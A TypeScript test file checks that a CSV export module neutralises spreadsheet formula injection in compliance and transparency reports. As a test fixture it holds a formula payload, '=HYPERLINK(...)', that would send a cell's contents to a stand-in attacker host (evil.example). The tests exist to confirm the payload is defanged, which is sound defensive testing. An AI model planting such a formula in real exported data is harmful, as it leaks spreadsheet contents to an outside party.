import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { neutraliseCell, toCsv } from '../../contract/csv';
import { complianceCsv, type ComplianceReportResult } from '../../api/compliance/complianceReport';
import { transparencyCsv, type TransparencyReport } from '../../api/transparency/transparencyReport';

const FORMULA = /^[=+\-@\t\r]/;
const read = (csv: string): string[][] => {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  return parse(csv.slice(1), { relax_column_count: true });
};

describe('the CSV writer', () => {
  it('never leaves a text cell a spreadsheet would run as a formula, and keeps every other text exactly', () => {
    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', 'a', '中', ' ', "'");
    fc.assert(
      fc.property(
        fc.array(
          fc.tuple(start, fc.string({ maxLength: 30 })).map(([a, b]) => a + b),
          { minLength: 1, maxLength: 5 },
        ),
        (cells) => {
          const [header, row] = read(
            toCsv(
              [cells],
              cells.map((_, i) => `c${i}`),
            ),
          );
          expect(header).toHaveLength(cells.length);
          row!.forEach((got, i) => {
            expect(FORMULA.test(got)).toBe(false);
            expect(got).toBe(FORMULA.test(cells[i]!) ? `'${cells[i]}` : cells[i]);
          });
        },
      ),
    );
  });

  it('neutralises the OWASP starts and nothing else', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(neutraliseCell(s)).toBe(`'${s}`);
    for (const s of ['1-1', 'a=b', '', "'=x"]) expect(neutraliseCell(s)).toBe(s);
  });
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")';

describe('every report goes through it', () => {
  it('compliance report: author handle and post text starting with a formula come out neutralised', () => {
    const result: ComplianceReportResult = {
      period: { from: '2026-10-01T00:00:00Z', to: '2026-11-01T00:00:00Z' },
      filters: { brand: null, creator: null },
      generatedAt: '2026-11-01T00:00:00Z',
      counts: {
        posts: 1,
        commercial: 1,
        disclosed: 0,
        weaklyDisclosed: 0,
        undisclosed: 1,
        notCommercial: 0,
        remediatedAfterNotice: 0,
        noticesSent: 0,
        ordersFromUndisclosed: 0,
      },
      cases: [
        {
          postId: 1,
          platformId: '+p1',
          source: 'forum',
          author: HYPERLINK,
          brands: ['@brand'],
          reach: 5,
          postedAt: '2026-10-02T00:00:00Z',
          detectedAt: '2026-10-02T00:00:00Z',
          confidence: 0.9,
          evidence: [],
          spans: [],
          ordersAttributed: 0,
          status: 'visible',
          disclosureRequired: false,
          text: `${HYPERLINK} 真心推荐`,
          textSha256: 'ab',
        },
      ],
      notes: [],
    };
    const [header, row] = read(complianceCsv(result));
    const cell = (name: string) => row![header!.indexOf(name)]!;
    expect(cell('author')).toBe(`'${HYPERLINK}`);
    expect(cell('text')).toBe(`'${HYPERLINK} 真心推荐`);
    expect(cell('platform_id')).toBe("'+p1");
    expect(cell('brands')).toBe("'@brand");
    expect(row!.some((c) => FORMULA.test(c))).toBe(false);
  });

  it('transparency report: a ground starting with a formula comes out neutralised', () => {
    const r: TransparencyReport = {
      period: { from: '2026-10-01T00:00:00Z', to: '2026-11-01T00:00:00Z' },
      reports: { total: 1, byReason: { '-spam': 1 } },
      decisions: { total: 1, human: 1, automated: 0, byAction: { remove: 1 }, byGround: [{ ground: HYPERLINK, automated: false, n: 1 }] },
      timeToDecision: { decided: 1, medianHours: 1, p90Hours: 1 },
      appeals: { filed: 0, upheld: 0, rejected: 0, open: 0, reversals: 0, reversalShareOfHumanDecisions: null },
      undisclosedAds: { casesFound: 0, remediated: 0, postsJudgedUndisclosed: 0, ordersFromUndisclosed: 0 },
      generatedAt: '2026-11-01T00:00:00Z',
    };
    const rows = read(transparencyCsv(r));
    expect(rows.find((x) => x[0] === 'decisions_by_ground_human')![1]).toBe(`'${HYPERLINK}`);
    expect(rows.find((x) => x[0] === 'reports_by_reason')![1]).toBe("'-spam");
    expect(rows.flat().some((c) => FORMULA.test(c))).toBe(false);
  });
});
